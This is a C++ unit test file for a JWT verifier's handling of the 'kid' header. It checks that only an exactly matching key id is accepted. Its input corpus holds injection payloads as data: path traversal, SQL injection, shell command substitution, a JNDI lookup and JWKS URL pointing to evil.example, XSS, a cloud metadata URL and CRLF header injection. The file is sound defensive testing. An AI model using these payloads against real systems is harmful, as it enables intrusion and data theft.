// SPDX-License-Identifier: MIT
#include "base/json.hpp"
#include "support/public_tokens.hpp"

#include <fmt/format.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <utility>
#include <vector>

namespace taskgate {

namespace {

using auth::Algorithm;
using auth::Refusal;
using test::claims_with;
using test::issuer_pair;
using test::make_token;
using test::stranger_pair;
using test::verdict_of;

const std::string accepted = fmt::format("user {}", test::token_user);

/// Near misses of `key-1`, and what has worked against those who put a `kid` into a path, a query,
/// a shell, a template or a URL; one a line.
constexpr std::string_view foreign_texts = R"(Key-1
KEY-1
key-
key-11
key
ey-1
key-1,key-1
key-1;
*
key-*
key-?
.*
%
_
key-1%00
key%2d1
../../../../../../dev/null
/dev/null
/proc/sys/kernel/randomize_va_space
..\..\windows\win.ini
file:///dev/null
C:\key-1
key-1/../key-1
./key-1
' OR '1'='1
' OR 1=1 --
' UNION SELECT 'secret'; --
key-1'; DROP TABLE keys; --
" or ""="
key-1" }
$(id)
`id`
|id
key-1 && id
{{7*7}}
${jndi:ldap://evil.example/x}
<script>alert(1)</script>
https://evil.example/jwks.json
http://169.254.169.254/latest/meta-data/
data:application/json,{}
key-1@evil.example
null
undefined
0
1
true
__proto__
constructor
test keys
ES256)";

/// The same in JSON, one a line: nothing, control characters, NULs, a Cyrillic k, a hyphen that
/// does not break, a 1 set high, full-width forms, characters that nobody sees, no strings at all.
constexpr std::string_view foreign_values = R"(""
" "
"key-1 "
" key-1"
"key-1\n"
"\tkey-1"
"key-1\r\nX-Injected: 1"
"\u0000"
"key-1\u0000"
"\u0000key-1"
"key-1\u0000.pem"
"\u043aey-1"
"key\u20111"
"key-\u00b9"
"key\uff0d\uff11"
"k\u00e9y-1"
"key-1\u200b"
"\ufeffkey-1"
"key-1\u202e"
"\ud83d\ude80"
null
true
false
0
1
-0
1e0
[]
{}
["key-1"]
[["key-1"]]
{"key-1":true}
{"kid":"key-1"}
{"$ne":null})";

std::vector<std::string_view> lines_of(std::string_view text) {
    std::vector<std::string_view> lines;
    for (std::size_t begin = 0; begin < text.size();) {
        const std::size_t end = std::min(text.find('\n', begin), text.size());
        lines.push_back(text.substr(begin, end - begin));
        begin = end + 1;
    }
    return lines;
}

/// JSON texts of what a `kid` might be that names no key.
std::vector<std::string> foreign_ids() {
    std::vector<std::string> ids;
    for (const std::string_view value : lines_of(foreign_values)) ids.emplace_back(value);
    for (const std::string_view text : lines_of(foreign_texts)) {
        std::string id;
        json::append_string(id, text);
        ids.push_back(std::move(id));
    }
    ids.push_back('"' + std::string(4000, 'k') + '"');
    ids.push_back("\"key-1" + std::string(4000, ' ') + '"');
    ids.push_back(std::string(50, '[') + std::string(50, ']'));
    return ids;
}

std::vector<test::NamedToken> tokens_naming(const std::vector<std::string>& ids,
                                            const test::KeyPair& pair, Refusal refusal) {
    std::vector<test::NamedToken> tokens;
    for (const std::string& id : ids) {
        const auto header =
            fmt::format(R"({{"alg":"{}","kid":{}}})", name_of(pair.algorithm()), id);
        tokens.push_back({id.substr(0, 100), make_token(pair, header, claims_with()), refusal});
    }
    return tokens;
}

TEST(KeyIds, NameNoKeyButThatOfExactlyTheSameString) {
    for (const Algorithm algorithm : {Algorithm::es256, Algorithm::ed25519, Algorithm::rs256}) {
        const auto& pair = issuer_pair(algorithm);
        const auth::KeySet keys = test::read_keys({pair.jwk_named("key-1")});
        ASSERT_EQ(verdict_of(make_token(pair, "key-1"), keys), accepted);
        test::expect_verdicts(tokens_naming(foreign_ids(), pair, Refusal::unknown_key), keys);
    }
}

TEST(KeyIds, NameNoKeyWhereSeveralAreThere) {
    const auto& pair = issuer_pair(Algorithm::es256);
    const auth::KeySet keys = test::read_keys({stranger_pair(Algorithm::es256).jwk_named("key-0"),
                                               pair.jwk_named("key-1"),
                                               issuer_pair(Algorithm::ed25519).jwk_named("key-2")});
    ASSERT_EQ(verdict_of(make_token(pair, "key-1"), keys), accepted);
    test::expect_verdicts(tokens_naming(foreign_ids(), pair, Refusal::unknown_key), keys);
}

TEST(KeyIds, NameNoKeyThatHasNoneItself) {
    const auto& pair = issuer_pair(Algorithm::es256);
    for (const std::string_view more :
         {"", R"("kid":"")", R"("kid":null)", R"("kid":1)", R"("kid":["key-1"])", R"("kid":{})"}) {
        test::JwkFields fields;
        fields.more = more;
        const auth::KeySet keys = test::read_keys({pair.jwk(fields)});
        EXPECT_EQ(verdict_of(make_token(pair, R"({"alg":"ES256"})", claims_with()), keys), accepted)
            << more;
        EXPECT_EQ(verdict_of(make_token(pair, "key-1"), keys), "unknown_key") << more;
        test::expect_verdicts(tokens_naming(foreign_ids(), pair, Refusal::unknown_key), keys);
    }
}

TEST(KeyIds, MayBeAnyStringWhereTheKeySetHasTheSame) {
    const auto& pair = issuer_pair(Algorithm::es256);
    for (const std::string_view id :
         {"1", " ", "../../dev/null", "' OR 1=1 --", "N7WjevwEt9NQhUKTp65bwFSoqEJGvc50", "ключ",
          "🚀", "a\"b\\c", "6f1c2a52-7d9e-4f5b-9f57-0c1f3a4be2d1", "a\tb"}) {
        const auth::KeySet keys = test::read_keys(
            {stranger_pair(Algorithm::es256).jwk_named("key-1"), pair.jwk_named(id)});
        EXPECT_EQ(verdict_of(make_token(pair, id), keys), accepted) << id;
        EXPECT_EQ(verdict_of(make_token(pair, "key-1"), keys), "bad_signature") << id;
    }
    const std::string longest(8000, 'k');
    EXPECT_EQ(verdict_of(make_token(pair, longest), test::read_keys({pair.jwk_named(longest)})),
              accepted);
}

TEST(KeyIds, AreComparedAsTheStringsThatTheirJsonStandsFor) {
    const auto& pair = issuer_pair(Algorithm::es256);
    test::JwkFields fields;
    fields.more = R"("kid":"k\u0065y\u002d1")";
    const auth::KeySet keys = test::read_keys({pair.jwk(fields)});
    const auto verdict = [&](std::string_view header) {
        return verdict_of(make_token(pair, header, claims_with()), keys);
    };
    EXPECT_EQ(verdict(R"({"alg":"ES256","kid":"key-1"})"), accepted);
    EXPECT_EQ(verdict(R"({"alg":"ES256","kid":"\u006bey-1"})"), accepted);
    EXPECT_EQ(verdict(R"({"alg":"ES256","\u006bid":"key-1"})"), accepted);
    EXPECT_EQ(verdict(R"({"alg":"ES256","kid":"k\\u0065y-1"})"), "unknown_key");
    EXPECT_EQ(verdict(R"({"alg":"ES256","Kid":"key-2"})"), accepted);
    EXPECT_EQ(verdict(R"({"alg":"ES256","kid":"key-1","Kid":"key-2"})"), accepted);
}

TEST(KeyIds, ThatStandTwiceInAHeaderAreRefused) {
    const auto& pair = issuer_pair(Algorithm::es256);
    const auth::KeySet keys = test::read_keys({pair.jwk_named("key-1")});
    for (const std::string_view header : {R"({"alg":"ES256","kid":"key-1","kid":"key-1"})",
                                          R"({"alg":"ES256","kid":"evil","kid":"key-1"})",
                                          R"({"kid":"key-1","alg":"ES256","\u006bid":"evil"})"}) {
        EXPECT_EQ(verdict_of(make_token(pair, header, claims_with()), keys), "bad_header")
            << header;
    }
}

TEST(KeyIds, OfAStrangersOwnKeyDoNotBringThatKeyAlong) {
    const auth::KeySet keys = test::read_keys({issuer_pair(Algorithm::es256).jwk_named("key-1")});
    const auto& stranger = stranger_pair(Algorithm::es256);
    test::expect_verdicts(tokens_naming(foreign_ids(), stranger, Refusal::unknown_key), keys);
    EXPECT_EQ(verdict_of(make_token(stranger, "key-1"), keys), "bad_signature");
}

}  // namespace

}  // namespace taskgate
